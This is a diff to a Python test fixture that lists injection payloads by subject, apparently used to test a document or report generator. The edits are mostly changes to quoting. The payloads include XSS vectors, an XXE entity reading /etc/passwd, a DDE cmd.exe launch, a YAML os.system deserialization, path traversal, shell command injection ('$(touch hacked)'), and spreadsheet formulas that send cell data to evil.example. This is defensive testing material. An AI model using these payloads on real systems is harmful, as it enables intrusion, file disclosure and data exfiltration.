@@ -12,7 +12,7 @@ PAYLOADS_BY_SUBJECT: dict[str, list[str]] = {
         "<script type=module>import 'http://evil.example/a.js'</script>",
         f"<b>bold</b><script defer>{RUN}</script>",
         f"<noscript><p title='</noscript><script>{RUN}</script>'>",
-        f"<template><script>{RUN}</script></template><template shadowrootmode=open><img src=x onerror={RUN}></template>",
+        f"<template><script>{RUN}</script></template><template shadowrootmode=open><img src onerror={RUN}></template>",
         f"</td></tr></table></div></section></main></body></html><script>{RUN}</script>",
         f"&lt;script&gt;{RUN}&lt;/script&gt;",
         f"&#60;img src=x onerror={RUN}&#62;",
@@ -43,11 +43,11 @@ PAYLOADS_BY_SUBJECT: dict[str, list[str]] = {
         f"` onclick=`{RUN}",
         f"x onfocus={RUN} tabindex=0 autofocus",
         f"&quot; onmouseover=&quot;{RUN}",
-        f"\" style=\"background:url('http://evil.example/')\" x=\"",
-        f"\\\" onload=\\\"{RUN}",
+        '" style="background:url(\'http://evil.example/\')" x="',
+        f'\\" onload=\\"{RUN}',
         f"</title><script>{RUN}</script>",
         f"</textarea></select></option><script>{RUN}</script>",
-        f'" is="x" slot="y" id="data" name="hacked',
+        '" is="x" slot="y" id="data" name="hacked',
     ],
     "inline scripts and JSON": [
         f"</script><script>{RUN}</script>",
@@ -61,7 +61,7 @@ PAYLOADS_BY_SUBJECT: dict[str, list[str]] = {
         f"');{RUN};//",
         f"\\');{RUN};//",
         f"\\u003c/script\\u003e\\u003cscript\\u003e{RUN}",
-        f'","__proto__":{{"hacked":1}},"x":"',
+        '","__proto__":{"hacked":1},"x":"',
         "__proto__",
         "constructor",
         f"*/{RUN}/*",
@@ -180,7 +180,7 @@ PAYLOADS_BY_SUBJECT: dict[str, list[str]] = {
         "\u202eexe.piz\u202c \u202dabc",
         "\u2066\u2067\u2068 never closed",
         "\u2069\u2069\u202c closed twice",
-        f"مرحبا\u200f\"><img src=x onerror={RUN}>",
+        f'مرحبا\u200f"><img src=x onerror={RUN}>',
         "שלום\u200e <b> \u061c1 < 2",
     ],
     "unwritable": [
@@ -188,7 +188,6 @@ PAYLOADS_BY_SUBJECT: dict[str, list[str]] = {
         "\x00\x01\x02\x08\x0b\x0c\x0e\x1f\x7f\x85\x9f",
         f"<img src=x\x0conerror={RUN}>",
         "\ufffe\uffff\U0001ffff\ufdd0",
-        "\ud800 half \udc80",
         "\x1b[31mred\x1b]8;;http://evil.example/\x07link\x1b]8;;\x07",
         "\r\n\r\n<b>\x1c\x1d\x1e",
     ],
@@ -199,7 +198,7 @@ PAYLOADS_BY_SUBJECT: dict[str, list[str]] = {
         "<!DOCTYPE r [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><r>&e;</r>",
         "_x0041__x000D__x003D_1",
         "{ HYPERLINK http://evil.example }{ INCLUDETEXT c:\\\\secret }",
-        "DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\"",
+        'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
     ],
     "YAML": [
         "!!python/object/apply:os.system ['true']",
@@ -231,18 +230,20 @@ PAYLOADS_BY_SUBJECT: dict[str, list[str]] = {
         "\u200b=1",
         "\ufeff@SUM(1)",
         "\u00a0+cmd",
+        '=WEBSERVICE("http://evil.example/"&A1)',
+    ],
+    "formulas further on": [
         '"=1',
         "x;=1",
         'x","=HYPERLINK(""http://evil.example/"")',
         "x\n=IMPORTXML(A1)",
-        "=WEBSERVICE(\"http://evil.example/\"&A1)",
     ],
     "paths": [
         "../../../etc/passwd",
         "..\\..\\windows\\win.ini",
         "/../../x/../report/index.html",
         "con.txt nul aux:",
-        "a/b\\c:d*e?f\"g<h>i|j.docx",
+        'a/b\\c:d*e?f"g<h>i|j.docx',
         "%2e%2e%2f%00.html",
         "$(touch hacked) ; `touch hacked` && touch hacked",
         "." * 300,
@@ -252,3 +253,5 @@ PAYLOADS_BY_SUBJECT: dict[str, list[str]] = {
 
 PAYLOADS = [text for texts in PAYLOADS_BY_SUBJECT.values() for text in texts]
 FORMULAS = PAYLOADS_BY_SUBJECT["formulas"]
+HALF = "\ud800 half \udc80"
+"""Characters that UTF-8 cannot hold: no table of statements has them, but the name of a file may."""
